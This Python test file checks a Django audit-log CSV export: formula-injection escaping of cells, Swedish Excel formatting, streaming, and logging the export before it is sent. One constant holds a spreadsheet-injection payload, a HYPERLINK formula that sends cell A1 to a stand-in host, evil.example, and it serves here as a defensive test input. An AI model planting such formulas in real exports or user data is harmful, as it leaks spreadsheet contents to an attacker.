"""The audit CSV export: safe for spreadsheet programs (no cell is a formula), in Swedish Excel's format,
streamed, and on record before the first line is sent."""

import csv
import io

import pytest

from personas import make_area
from samtrygg.accounts import services as accounts
from samtrygg.accounts.models import OrgType
from samtrygg.audit import services as audit_services
from samtrygg.audit.models import Action, AuditEntry
from samtrygg.audit.services import audit_record
from samtrygg.lib import spreadsheet

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Klicka här")'


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"),
    ("+46 8 123", "'+46 8 123"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Norr", "Norr"),
    ("a=1", "a=1"),
    ("", ""),
    (None, ""),
    (12, "12"),
])
def test_safe_cell_prefixes_what_a_spreadsheet_would_evaluate(value, cell):
    assert spreadsheet.safe_cell(value) == cell


def test_the_file_is_for_swedish_excel():
    data = b"".join(spreadsheet.csv_bytes(["namn", "värde"], [["Åsa", "a;b"], ["=1", 'sa "hej"']]))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8") == '\ufeffnamn;värde\r\nÅsa;"a;b"\r\n\'=1;"sa ""hej"""\r\n'


def test_a_long_file_comes_in_chunks_of_many_rows():
    rows = ([i, "x" * 100] for i in range(2000))
    chunks = list(spreadsheet.csv_lines(["n", "text"], rows, chunk_chars=10_000))
    assert chunks[0] == "\ufeffn;text\r\n"
    assert 20 <= len(chunks) <= 30
    assert "".join(chunks[1:]).count("\r\n") == 2000


@pytest.mark.django_db
def test_formulas_in_names_and_objects_are_exported_as_text(world, login):
    org = accounts.organisation_create(actor=world.alice, name=HYPERLINK, type=OrgType.NAMND, parent=world.kommun_a)
    make_area(org, "-1+1", (17.60, 59.18, 17.70, 59.22))
    audit_record(actor=None, actor_name="@SUM(1+1)", action=Action.LOGIN_FAILED, organisation=world.kommun_a)

    response = login(world.alice).get("/audit/export.csv")

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["tid", "användare", "organisation", "aktivitet", "objekttyp", "objekt-id", "objekt",
                       "ändringar", "ip"]
    assert data.count(b"\r\n") == len(rows)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells  # the organisation's name, in the organisation and the object columns
    assert "'-1+1" in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@pytest.mark.django_db
def test_the_export_is_on_record_before_the_file_is_sent(world, login, monkeypatch):
    client = login(world.alice)
    expected = AuditEntry.objects.filter(organisation__in=[world.kommun_a, world.forvaltning_a]).count()

    def broken(entry):
        raise RuntimeError("connection lost half-way")

    monkeypatch.setattr(audit_services, "_csv_row", broken)
    response = client.get("/audit/export.csv")

    export = AuditEntry.objects.get(action="export", actor=world.alice)  # before a single line was read
    assert export.organisation == world.kommun_a
    assert export.object_repr == f"logg, {expected} rader"
    with pytest.raises(RuntimeError):
        b"".join(response.streaming_content)
    assert AuditEntry.objects.filter(action="export", actor=world.alice).count() == 1


@pytest.mark.django_db
def test_the_file_holds_the_rows_that_were_counted(world, login):
    response = login(world.alice).get("/audit/export.csv", {"action": "export"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"))
    export = AuditEntry.objects.get(action="export", actor=world.alice)
    assert export.object_repr == "logg, 0 rader"
    assert export.changes == {"filters": [None, {"action": "export"}]}
    assert len(rows) == 1  # the header only: the export's own entry came after the count
